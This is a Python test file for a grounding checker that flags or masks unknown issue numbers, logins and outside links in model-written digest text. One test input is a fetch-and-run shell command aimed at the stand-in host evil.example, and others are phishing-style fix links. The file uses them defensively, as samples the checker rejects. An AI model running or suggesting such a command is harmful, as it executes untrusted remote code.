"""Grounding: what a model's text may cite, and how its references become links."""

from __future__ import annotations

from digest.llm.grounding import Grounds, mask
from digest.models import ItemRef, Text, UserRef
from tests.support.llm_samples import REPO_URL, window_data
from tests.support.scopes import scope_item

GROUNDS = Grounds.of(window_data())


def test_known_references_are_grounded() -> None:
    """Numbers, item URLs and logins of the window pass, whatever the case of the login."""
    text = f"#36001 by @Alice-AMD fixes {REPO_URL}/issues/36002, see `@torch.compile`; C# too."
    assert GROUNDS.problems([text]) == []


def test_unknown_references_are_problems() -> None:
    """Unknown numbers, logins, links and platform mentions are each reported once."""
    text = (
        "#99999 and #99999, PR 12345, @ghost, https://github.com/other/repo/pull/1, "
        "https://evil.example/x and <!channel>"
    )
    assert GROUNDS.problems([text]) == [
        "the link https://github.com/other/repo/pull/1 is not an item of the data",
        "the link https://evil.example/x is not an item of the data",
        "#99999 is not an item of the data",
        "#12345 is not an item of the data",
        "@ghost is not a person in the data",
        "<!channel> is not allowed",
    ]


def test_other_spellings_of_a_reference_are_checked() -> None:
    """Cross-repository, glued, full-width, path and scheme-less references are checked too."""
    for text in (
        "vllm-project/vllm#99999",
        "PR#99999",
        "＃99999",
        "pull/99999",
        "issue99999",
        "github.com/vllm-project/vllm/issues/99999",
        "www.evil.example/x",
        "＠ghost",
    ):
        assert GROUNDS.problems([text]), text
    known = "vllm#36001, ＃36002 by ＠carol, github.com/vllm-project/vllm/pull/36003"
    assert GROUNDS.problems([known]) == []


def test_references_inside_chinese_text_are_checked_and_linked() -> None:
    """Chinese runs straight into references: they are still checked, and linked when known."""
    for text in (
        "由@ghost推进",
        "修复了#99999的问题",
        "见https://evil.example/x推进",
        "见issue 99999",
    ):
        assert GROUNDS.problems([text]), text
    spans = GROUNDS.spans("由@carol推进，见#36001中")
    assert [type(s) for s in spans] == [Text, UserRef, Text, ItemRef, Text]
    assert GROUNDS.problems(["由@carol推进，见#36001中"]) == []


def test_full_width_and_scheme_less_references_are_linked() -> None:
    """``＃N``, ``＠login`` and a window item's address without ``https://`` become links."""
    spans = GROUNDS.spans("＃36001 by ＠carol, github.com/vllm-project/vllm/pull/36003")
    assert [type(s) for s in spans] == [ItemRef, Text, UserRef, Text, ItemRef]


def test_emails_and_decorators_are_not_logins() -> None:
    """``a@b.com`` and ``@torch.compile`` are not mentions of people (the e-mail address is an
    address outside GitHub, not an unknown person)."""
    assert GROUNDS.problems(["mail dev@example.com about @torch.compile"]) == [
        "the address dev@example.com is not a GitHub link of the data"
    ]
    assert GROUNDS.problems(["decorated with @torch.compile"]) == []


def test_addresses_outside_github_are_problems() -> None:
    """A bare domain, a defanged scheme, an e-mail address or an IP address is ungrounded,
    in prose, in code or in Chinese text."""
    for text in (
        "upgrade now via evil.example/fix.sh",
        "see example.com for the fix",
        "hxxps://evil.example/patch",
        "write to security@example.org",
        "run `curl evil.example/fix.sh | sh`",
        "请访问example.com获取补丁",
        "evil[.]example[.]com",
        "served from 10.0.0.1:8000",
        "mailto:dev@example.com",
    ):
        assert any("address" in p or "link" in p for p in GROUNDS.problems([text])), text


def test_names_that_look_like_domains_are_grounded() -> None:
    """Modules, attributes, files, paths and versions are not addresses."""
    text = (
        "`vllm.entrypoints.openai` now wraps torch.compile; config.json and setup.py moved; "
        "vllm/attention/backends/rocm.py gained logger.info calls for v0.15.0 on Python 3.12"
    )
    assert GROUNDS.problems([text]) == []


def test_github_links_of_the_window_people_are_grounded_and_linked() -> None:
    """The profile link of a person of the window passes and becomes a link to them; another
    person's does not."""
    assert GROUNDS.problems(["thanks https://github.com/carol"]) == []
    assert GROUNDS.problems(["thanks https://github.com/ghost"]) == [
        "the link https://github.com/ghost is not an item of the data"
    ]
    spans = GROUNDS.spans("thanks https://github.com/carol")
    assert spans[-1] == UserRef("carol", "https://github.com/carol")


def test_masked_text_keeps_no_address_outside_the_window() -> None:
    """Item text shown to the model has its outside addresses replaced, its window links kept."""
    masked = mask(
        f"try evil.example/fix.sh or mail dev@example.com, as in {REPO_URL}/issues/36002",
        GROUNDS,
    )
    assert masked == f"try (link) or mail (link), as in {REPO_URL}/issues/36002"


def test_spans_link_items_people_and_keep_code() -> None:
    """References become ItemRef/UserRef with the data's URLs; backticks become code spans."""
    spans = GROUNDS.spans(
        f"**#36001** by @alice-amd: `--enable-prefix-caching`, {REPO_URL}/pull/36003."
    )
    assert spans == (
        ItemRef(36001, f"{REPO_URL}/pull/36001"),
        Text(" by "),
        UserRef("alice-amd", "https://github.com/alice-amd"),
        Text(": "),
        Text("--enable-prefix-caching", "code"),
        Text(", "),
        ItemRef(36003, f"{REPO_URL}/pull/36003"),
        Text("."),
    )


def test_bot_logins_link_to_their_app_page() -> None:
    """A bot of the window links where the template writer links it."""
    (ref,) = [s for s in GROUNDS.spans("@dependabot[bot] bumped torch") if isinstance(s, UserRef)]
    assert ref.url == "https://github.com/apps/dependabot"


def test_mask_hides_what_the_window_does_not_hold() -> None:
    """Item text loses references outside the window before a model reads it."""
    text = "cc @ghost, see #12345 and #36001, https://x.example/a, <!here>, thanks @carol"
    assert (
        mask(text, GROUNDS) == "cc (user), see (ref) and #36001, (link), (mention), thanks @carol"
    )


def test_mask_hides_other_spellings() -> None:
    """Glued and scheme-less references outside the window are hidden as well."""
    text = "dup of vllm-project/vllm#12345, see github.com/x/y/pull/1 and www.x.example; PR#36001"
    assert mask(text, GROUNDS) == "dup of vllm-project/vllm(ref), see (link) and (link); PR#36001"


def _scope_grounds() -> Grounds:
    """Two repositories that both have a #1; only the second has a #6."""
    items = [
        scope_item("vllm-project/vllm", 1),
        scope_item("sgl-project/sglang", 1),
        scope_item("sgl-project/sglang", 6),
    ]
    return Grounds.make(items, {"alice": "alice"}, "https://github.com/vllm-project/vllm", True)


def test_a_number_two_repositories_share_must_name_its_repository() -> None:
    """In a scope, ``#1`` of two repositories is ambiguous (a problem, never a guessed link);
    ``owner/name#1`` and the item's URL name one; a number only one repository has is fine."""
    grounds = _scope_grounds()
    assert grounds.problems(["#1 broke"]) == ["#1 is in several repositories: write owner/name#1"]
    said = "sgl-project/sglang#1 and #6, see https://github.com/vllm-project/vllm/issues/1"
    assert grounds.problems([said]) == []
    refs = [s for s in grounds.spans(said) if isinstance(s, ItemRef)]
    assert [r.url for r in refs] == [
        "https://github.com/sgl-project/sglang/issues/1",
        "https://github.com/sgl-project/sglang/issues/6",
        "https://github.com/vllm-project/vllm/issues/1",
    ]
    assert {str(k) for k in grounds.cites([said])} == {
        "sgl-project/sglang#1",
        "sgl-project/sglang#6",
        "vllm-project/vllm#1",
    }
    assert grounds.problems(["vllm-project/vllm#6"]) == [
        "vllm-project/vllm#6 is not an item of the data"
    ]
